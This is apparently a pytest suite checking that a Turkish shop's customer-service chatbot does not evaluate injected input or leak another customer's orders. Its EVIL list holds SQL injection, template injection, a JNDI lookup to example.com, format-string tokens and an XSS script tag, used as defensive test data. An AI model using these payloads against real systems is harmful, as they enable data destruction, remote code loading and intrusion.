"""What is typed by mistake or with intent: nothing is evaluated, found by chance or lost."""

from collections.abc import Callable

import pytest

from tests.dialogue.processes import Customer

pytestmark = pytest.mark.timeout(300)

NewCustomer = Callable[[str], Customer]

EVIL = [
    "'; DROP TABLE shop_order; --",
    "1' OR '1'='1",
    "{order_number} {verified_order} {0.__class__}",
    "{{7*7}} {% raw %}",
    "${7*7} ${jndi:ldap://example.com/a} #{7*7}",
    "%s %n %(number)s <script>alert(49)</script>",
]
ADDRESS = "Lale Sok. No 5 {}, Kadıköy / İstanbul"


def proven(customer: NewCustomer, wish: str, factor: str, language: str = "tr") -> Customer:
    """A customer who has told a wish with an order's number, and proven the order."""
    someone = customer(language)
    someone.writes(wish)
    someone.writes(factor)
    return someone


def answered(someone: Customer, text: str) -> list[str]:
    """What is heard of a text that nobody must evaluate and no order may be found by."""
    heard = someone.writes(text)
    assert heard, text
    said = "\n".join(heard)
    assert "49" not in said.replace(text, "").replace("49,90", "").replace("49.90", "")
    assert "numaralı siparişiniz" not in said
    return heard


@pytest.mark.parametrize("evil", EVIL)
def test_it_means_nothing_in_any_field(customer: NewCustomer, evil: str) -> None:
    number = 98_000 + EVIL.index(evil)  # wrong proofs of one order are counted
    answered(customer("tr"), evil)
    answered(customer("tr"), f"{evil} kupa var mı")
    someone = customer("tr")
    someone.writes("siparişim nerede")
    answered(someone, evil)
    for text in (evil, f"{evil}@example.com"):
        someone = customer("tr")
        someone.writes(f"{number} nerede")
        answered(someone, text)
    (state,) = customer("tr").writes("10482 nerede, telefonumun sonu 4821")
    assert state.startswith("10482 numaralı siparişiniz yolda.")


@pytest.mark.parametrize("evil", EVIL)
def test_a_complaint_is_recorded_as_it_is_written(customer: NewCustomer, evil: str) -> None:
    someone = customer("tr")
    someone.writes("şikayetim var")
    told = f"kurye paketi fırlattı {evil}"
    someone.writes(told)
    assert someone.complaint is not None
    assert someone.complaint["text"] == told


@pytest.mark.parametrize("evil", EVIL)
def test_an_address_is_shown_as_it_is_written_or_asked_again(
    customer: NewCustomer, evil: str
) -> None:
    someone = proven(customer, "10510 siparişimin adresini değiştirmek istiyorum", "3344")
    written = ADDRESS.format(evil)
    heard = someone.writes(written)
    said = "\n".join(heard)
    shown = evil.replace(";", ",")  # which divides the parts of an address too
    assert f"Lale Sok. No 5 {shown}" in said or "Adresi tam okuyamadım" in said
    someone.writes("vazgeçtim")


@pytest.mark.parametrize("evil", EVIL)
def test_a_form_asks_again(customer: NewCustomer, evil: str) -> None:
    someone = proven(customer, "10391 siparişimi iade etmek istiyorum", "1907")
    asked = list(someone.offered)
    answered(someone, evil)
    assert asked == someone.offered[-len(asked) :] or someone.handoff is not None


@pytest.mark.parametrize(
    "number", ["4" * 40, "10482" * 8, "-10482", "1.0482", "１０４８２", "0x28F2", "10482e0", "٠١٢"]
)
def test_a_number_that_is_none_finds_no_order(customer: NewCustomer, number: str) -> None:
    someone = customer("tr")
    someone.writes("siparişim nerede")
    heard = someone.writes(number)
    assert "numaralı siparişiniz" not in "\n".join(heard)
    assert someone.answer["handoff"] is None


@pytest.mark.parametrize(
    "date",
    [
        "3 Kasım",
        "3 Kasım 2026",
        "03.11.2026",
        "3/11/2026",
        "03-11-26",
        "2026-11-03",
        "3 Nov 2026",
        "November 3, 2026",
        "3rd of November 2026",
        "geçen salı",
    ],
)
def test_a_date_is_no_number_and_no_proof(customer: NewCustomer, date: str) -> None:
    someone = customer("tr")
    someone.writes("siparişim nerede")
    assert "numaralı siparişin" not in "\n".join(someone.writes(f"{date} tarihinde vermiştim"))
    someone = customer("tr")
    someone.writes("10510 nerede")
    heard = someone.writes(date)
    said = "\n".join(heard)
    assert "eşleşen bir sipariş bulamadım" not in said
    assert "couldn't find an order" not in said


def test_the_order_of_somebody_else_is_as_unknown_as_one_that_is_not(customer: NewCustomer) -> None:
    heard = []
    for number in ("42733", "99998"):
        someone = proven(customer, "10510 nerede", "3344")
        someone.writes(f"{number} nerede")
        regret, _ = someone.writes("3344")
        heard.append(regret)
    first, second = heard
    assert first == second
    assert first.startswith("Bu bilgilerle eşleşen bir sipariş bulamadım.")


@pytest.mark.parametrize("language", ["tr", "en"])
@pytest.mark.parametrize("unit", ["kupa ", "kırmızı ayakkabı 42 numara ", "x", "mug? "])
def test_a_search_of_two_thousand_characters_is_answered(
    customer: NewCustomer, language: str, unit: str
) -> None:
    someone = customer(language)
    someone.writes({"tr": "ürün arıyorum", "en": "I'm looking for a product"}[language])
    question = {"tr": " var mı", "en": " do you have it"}[language]
    assert someone.writes((unit * 2000)[: 2000 - len(question)] + question)
    assert someone.handoff is None
